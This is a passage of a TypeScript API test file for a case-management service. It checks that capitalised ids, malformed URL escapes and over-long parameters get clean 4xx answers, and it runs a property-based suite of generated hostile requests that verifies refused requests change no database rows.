    expect(added.status >= 400 || preview.status < 500, `evidence ${added.status}, preview ${preview.status}`).toBe(true);
  });

  // PATCH /api/plan-items/{ID in capitals}: 500, TypeError at checkOwner (src/domain/service-plans/plan-items.ts:78) <- checkUpdateItem
  // (:107) <- src/app/service-plans/items.ts:103; complete: the same via checkCompleteItem (:128) <- items.ts:139; reassign: TypeError at
  // itemStatus (src/domain/service-plans/plan.ts:50) <- checkReassignItem (plan-items.ts:158) <- items.ts:186. Cause: items.ts:88 compares ids with ===.
  for (const [operation, item] of [
    ['PATCH /api/plan-items/:id', 'ownedItem'],
    ['POST /api/plan-items/:id/complete', 'completableItem'],
    ['POST /api/plan-items/:id/reassign', 'reassignableItem'],
  ] as const) {
    it(`a plan item id in capitals (${operation}) is answered as the lowercase id is, not with a 500`, async () => {
      // Ids are lower-cased at the edge, so the capitals reach the same record (a valid change may be saved).
      const response = await sendWithField(operation, 'params.id', fixture[item].id.toUpperCase());
      expect(response.statusCode, response.body).toBeLessThan(500);
    });
  }

  // GET /api/assessments/{ID in capitals}: 200 with an empty body and no content type (the lowercase id answers the assessment).
  it('an assessment id in capitals (GET /api/assessments/:id) answers the assessment, not an empty 200', async () => {
    const response = await sendWithField('GET /api/assessments/:id', 'params.id', fixture.assessmentId.toUpperCase());
    expect(response.body).not.toBe('');
  });

  // PATCH /api/assessments/{ID in capitals} and POST .../complete save the change (version +1, audit event) and answer 200 with an
  // empty body: changeAssessment (src/app/assessments.ts:92) ends with getAssessment, whose lookup (:36) compares ids with ===.
  for (const [operation, path, body] of [
    ['PATCH /api/assessments/:id', '', { notes: 'Updated' }],
    ['POST /api/assessments/:id/complete', '/complete', { needs: ['training'], primaryNeed: 'training' }],
  ] as const) {
    it(`an assessment id in capitals (${operation}) answers the changed assessment, not an empty 200`, async () => {
      const ada = await signedIn(server.app, 'official.ada');
      const person = await ada.post('/api/people', {
        givenName: 'Capital',
        familyName: 'Letters',
        birthDate: '1991-05-06',
        acknowledgeDuplicates: true,
      });
      const opened = await ada.post(`/api/people/${person.body.id}/cases`, {});
      const started = await ada.post(`/api/cases/${opened.body.id}/assessments`, { needs: ['training'] });
      const response = await ada[operation.startsWith('PATCH') ? 'patch' : 'post'](
        `/api/assessments/${String(started.body.id).toUpperCase()}${path}`,
        { version: started.body.version, ...body },
      );
      expect(response.status).toBe(200);
      expect(response.body).not.toBeNull();
    });
  }

  // GET /api/cases/%ZZ once answered Fastify's own JSON (FST_ERR_BAD_URL); it is now MALFORMED_URL problem+json (error-catalogue.test.ts).
  it('a malformed percent-escape in the path (GET /api/cases/%ZZ) is answered with problem+json', async () => {
    const response = await server.app.inject({
      method: 'GET',
      url: '/api/cases/%ZZ',
      cookies: { waypoint_session: cookies.get('supervisor')! },
    });
    expect(response.statusCode).toBe(400);
    expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
  });

  // GET /api/cases/<over-long parameter> once answered Fastify's own JSON; it is now URL_TOO_LONG problem+json.
  it('a path parameter longer than 100 characters (GET /api/cases/aaa...) is answered with problem+json', async () => {
    const response = await server.app.inject({
      method: 'GET',
      url: `/api/cases/${'a'.repeat(101)}`,
      cookies: { waypoint_session: cookies.get('supervisor')! },
    });
    expect(response.statusCode).toBeGreaterThanOrEqual(400);
    expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
  });
});

/**
 * R08 trigger (docs/policy/learner-program-rules.md): training refused for exceeding a maximum
 * duration sends the regional office a task to reassess the learner, in its own transaction after the
 * refusal rolled the change back. That task and its audit event are the only rows such a refusal may
 * write (one open task per training item or plan, so at most once per record).
 */
async function onlyReassessmentTaskSent(response: LightMyRequestResponse, changed: number): Promise<boolean> {
  const type = String(response.json()?.type ?? '');
  if (!/\/problems\/(duration-cap-exceeded|plan-limit-exceeded)$/.test(type) || changed !== 2) return false;
  const rows = await watch.latest(changed);
  const tables = rows.map((r) => `${r.tbl}:${r.op}`).sort();
  if (tables.join(',') !== 'audit_events:INSERT,tasks:INSERT') return false;
  const newest = rowsOf<{ kind: string }>(
    await server.database.db.execute(
      sql.raw(
        "select t.kind from audit_events e join tasks t on t.id::text = e.record_id where e.record_type = 'task' order by e.seq desc limit 1",
      ),
    ),
  );
  return newest[0]?.kind === 'training-reassessment';
}

describe('hostile input to every operation', () => {
  OPERATIONS.forEach((op, index) => {
    const role = hostileCaller(op);
    it(`${operationName(op)} answers ${RUNS_PER_OPERATION} hostile requests without a 5xx, with problem+json 4xx, changing nothing unless accepted`, async () => {
      const { db } = server.database;
      const cookie = role === null ? null : cookies.get(role)!;
      const base = baseOf(op, fixture, role === null ? null : fixture.users[MATRIX_USERS[role]]!);
      const fingerprintBefore = boundary ?? (await fingerprint(db));
      boundary = null; // recomputed below unless this operation's run fails
      let changes = await watch.count();
      let acceptedWrites = 0;
      await fc.assert(
        fc.asyncProperty(hostileRequests(base), async (h) => {
          const errorsBefore = server.errors.length;
          const response = await sendHostile(server.app, op, h, cookie);
          const status = response.statusCode;
          stats.sent += 1;
          stats.byStatus.set(status, (stats.byStatus.get(status) ?? 0) + 1);
          const deferred = refusedBeforeHandler(response);
          if (deferred) stats.deferredCounts += 1;
          const now = deferred ? changes : await watch.count();
          const changed = now - changes;
          changes = now;
          const what = `${operationName(op)} with ${h.mutations.join('; ')}: ${status} ${response.body.slice(0, 300)}`;
          const problem = contractProblem(response);
          if (problem) {
            const log = server.errors
              .slice(errorsBefore)
              .map((e) => JSON.stringify(e))
              .join('\n');
            const known = KNOWN_BUGS.find((bug) => bug.matches(response, log, operationName(op)))?.id ?? null;
            violations.push({
              operation: operationName(op),
              status,
              mutations: h.mutations,
              url: urlOfHostile(op, h).slice(0, 160),
              problem,
              known,
              log: log.slice(0, 1500),
            });
            if (!known && !COLLECT) expect.fail(`${what}\n${problem}\n${log}`);
          }
          if (status >= 400) {
            stats.refused += 1;
            const r08Task = changed > 0 && (await onlyReassessmentTaskSent(response, changed));
            expect(r08Task ? 0 : changed, `${what}: a refused request changed ${changed} rows`).toBe(0);
          } else {
            stats.accepted += 1;
            stats.acceptedBy.set(operationName(op), (stats.acceptedBy.get(operationName(op)) ?? 0) + 1);
            if (changed > 0) {
              acceptedWrites += 1;
              stats.acceptedWrites += 1;
              const samples = stats.writeSamples.get(operationName(op)) ?? [];
              if (samples.length < 3) samples.push(`${status} ${h.mutations.join('; ').slice(0, 200)}`);
              stats.writeSamples.set(operationName(op), samples);
            }
          }
        }),
        { numRuns: RUNS_PER_OPERATION, seed: SEED + index, endOnFailure: true },
      );
      // Row counts and every row's content, audit events included: unchanged unless a hostile request was accepted and wrote.
      expect(await watch.count(), 'rows changed by requests refused before their handler').toBe(changes);
      boundary = await fingerprint(db);
      if (acceptedWrites === 0) expect(changedTables(fingerprintBefore, boundary)).toEqual([]);
    });
  });

  it('sends at least 10,000 hostile requests in total', () => {
    expect(stats.sent).toBeGreaterThanOrEqual(Math.min(10_000, TARGET));
  });

  afterAll(() => {
    const seconds = ((Date.now() - startedAt) / 1000).toFixed(1);
    const statuses = [...stats.byStatus.entries()]
      .sort(([a], [b]) => a - b)
      .map(([s, n]) => `${s}: ${n}`)
      .join(', ');
    const known = violations.filter((v) => v.known);
    console.log(
      `hostile input: ${stats.sent} requests to ${OPERATIONS.length} operations in ${seconds}s; ${stats.refused} refused (4xx/5xx, no row changed), ` +
        `${stats.accepted} accepted as valid (${stats.acceptedWrites} of them wrote); ${stats.deferredCounts} refused before their handler (change count taken with the next); by status: ${statuses}; ` +
        `contract violations: ${violations.length} (${known.length} known bugs: ${[...new Set(known.map((v) => v.known))].join(', ') || 'none'})`,
    );
    console.log(`hostile input: accepted by operation: ${JSON.stringify(Object.fromEntries(stats.acceptedBy))}`);
    for (const [operation, samples] of stats.writeSamples)
      console.log(`hostile input: accepted and wrote: ${operation}: ${samples.join(' | ')}`);
    for (const bug of KNOWN_BUGS) {
      const hits = violations.filter((v) => v.known === bug.id);
      if (hits.length)
        console.log(
          `hostile input: known bug ${bug.id}: ${hits.length} answers from ${new Set(hits.map((v) => v.operation)).size} operations, e.g. ${hits[0]!.operation} with ${hits[0]!.mutations.join('; ').slice(0, 160)}`,
        );
    }
    for (const v of violations.filter((x) => !x.known)) {
      console.log(
        `hostile input: UNKNOWN: ${v.operation} answered ${v.problem}\n  url: ${v.url}\n  mutations: ${v.mutations.join('; ').slice(0, 400)}\n  log: ${v.log.slice(0, 800)}`,
      );
    }
  });
});
